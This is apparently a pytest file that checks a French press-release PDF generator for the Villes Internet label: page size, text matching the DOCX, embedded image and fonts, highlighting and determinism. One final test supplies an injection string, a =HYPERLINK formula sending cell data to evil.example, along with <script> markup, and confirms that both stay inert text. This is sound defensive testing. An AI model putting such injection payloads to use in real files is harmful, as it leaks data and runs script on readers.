"""The press release as a PDF (label_kits.press_pdf): in the kit, A4, the same sentences as the
DOCX, the label's panel as an image, the passages to complete in yellow, made by ReportLab."""

from __future__ import annotations

import dataclasses
import io
import re
import subprocess

import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest
from docx import Document
from label_kits.national import national_release_pdf
from label_kits.press_pdf import HIGHLIGHT
from label_kits.press_release import press_release_pdf
from label_kits.zipkit import build_kit_zip
from test_kits import EDITION, KIT_FOLDER, LONGEST, SUBJECT, InFolder, _panel_png

A4_POINTS = (595.3, 841.9)


@pytest.fixture(scope="module")
def panels() -> dict[str, bytes]:
    return {
        "ville-internet-4-2026-verte.png": _panel_png(1200, 800),
        "ville-internet-4-2026-verte.svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    }


@pytest.fixture(scope="module")
def kit(panels) -> InFolder:
    return InFolder(build_kit_zip(SUBJECT, panels), KIT_FOLDER)


@pytest.fixture(scope="module")
def pdf(kit) -> bytes:
    return kit.read("communique-de-presse.pdf")


def _squeezed(text: str) -> str:
    """Text without any white space: a PDF's line breaks fall elsewhere than a DOCX's."""
    return re.sub(r"\s+", "", text)


def _text(data: bytes) -> str:
    return "\n".join(page.get_textpage().get_text_range() for page in pdfium.PdfDocument(data))


def test_the_kit_holds_the_pdf_beside_the_docx_and_lists_it(kit):
    names = kit.namelist()
    assert names[:3] == [
        "communique-de-presse.docx",
        "communique-de-presse.pdf",
        "communique-de-presse.txt",
    ]
    readme = kit.read("LISEZMOI.txt").decode("utf-8")
    assert "communique-de-presse.pdf" in readme


def test_pdf_is_one_a4_page_with_the_communes_name(pdf):
    document = pdfium.PdfDocument(pdf)
    assert len(document) == 1
    assert document[0].get_size() == pytest.approx(A4_POINTS, abs=0.5)
    text = _text(pdf)
    assert "Angers obtient 4" in text
    assert "COMMUNIQUÉ DE PRESSE" in text
    meta = document.get_metadata_dict()
    assert meta["Title"].startswith("Angers obtient 4")
    assert meta["Author"] == "Villes Internet"
    assert "ReportLab" in meta["Producer"]  # made at build time, no office suite


def test_pdf_says_every_sentence_of_the_docx(kit, pdf):
    docx = Document(io.BytesIO(kit.read("communique-de-presse.docx")))
    text = _squeezed(_text(pdf))
    paragraphs = [p.text for p in docx.paragraphs if p.text.strip()]
    assert len(paragraphs) > 10
    for paragraph in paragraphs:
        assert _squeezed(paragraph) in text, paragraph


def test_pdf_shows_the_panel_as_an_image_and_embeds_its_fonts(pdf):
    page = pdfium.PdfDocument(pdf)[0]
    images = list(page.get_objects(filter=[pdfium_c.FPDF_PAGEOBJ_IMAGE]))
    assert len(images) == 1
    assert b"/Subtype /Image" in pdf
    assert b"/FontFile2" in pdf  # the kit's font, embedded
    assert b"/Helvetica" not in pdf  # no font merely named


def test_passages_to_complete_are_highlighted(pdf):
    text = _text(pdf)
    assert "[Citation du maire" in text and "[nom, fonction, téléphone, courriel]" in text
    image = pdfium.PdfDocument(pdf)[0].render(scale=1).to_pil().convert("RGB")
    yellow = tuple(int(HIGHLIGHT[i : i + 2], 16) for i in (1, 3, 5))
    count = sum(n for n, colour in image.getcolors(1_000_000) if colour == yellow)
    assert count > 5000  # the quote's box and the contact line, not a stray pixel


def test_pdf_is_deterministic_and_made_without_another_program(monkeypatch, panels):
    first = press_release_pdf(SUBJECT, panels["ville-internet-4-2026-verte.png"])

    def refuse(*args, **kwargs):
        raise AssertionError(f"a program was started: {args}")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    again = press_release_pdf(SUBJECT, panels["ville-internet-4-2026-verte.png"])
    assert again == first


def test_long_releases_flow_onto_a_second_page_with_their_header_once(panels):
    data = press_release_pdf(LONGEST, panels["ville-internet-4-2026-verte.png"])
    document = pdfium.PdfDocument(data)
    assert 1 <= len(document) <= 2
    assert _text(data).count("COMMUNIQUÉ DE PRESSE") == 1
    epci = dataclasses.replace(SUBJECT, kind="territoire", nom="Communauté de communes du Pays")
    assert "[Commune du siège], le 3" in _text(press_release_pdf(epci, _panel_png(600, 400)))


def test_national_release_pdf_leads_with_the_five_at_panel(panels):
    five = _panel_png(1200, 800)
    files = {**panels, "ville-internet-5-2026.png": five}
    data = national_release_pdf(EDITION, files)
    text = _text(data)
    assert "COMMUNIQUÉ DE PRESSE NATIONAL" in text
    assert "213" in text and "Issy-les-Moulineaux" in text
    page = pdfium.PdfDocument(data)[0]
    assert len(list(page.get_objects(filter=[pdfium_c.FPDF_PAGEOBJ_IMAGE]))) == 1


def test_markup_and_addresses_in_names_stay_text():
    """A name with markup, quotes and an address prints as written: nothing becomes a tag or a
    link (the DOCX and the text say the same)."""
    name = '=HYPERLINK("http://evil.example/?d="&A1;"X") <b>gras</b> & « co »'
    place = '<script>alert("lieu")</script> <b>Salle</b>'
    subject = dataclasses.replace(SUBJECT, nom=name, ceremony_place=place)
    data = press_release_pdf(subject, _panel_png(600, 400))
    text = _squeezed(_text(data))
    assert _squeezed(name) in text and _squeezed("<script>alert(") in text
    assert b"/URI" not in data and b"/Annots" not in data
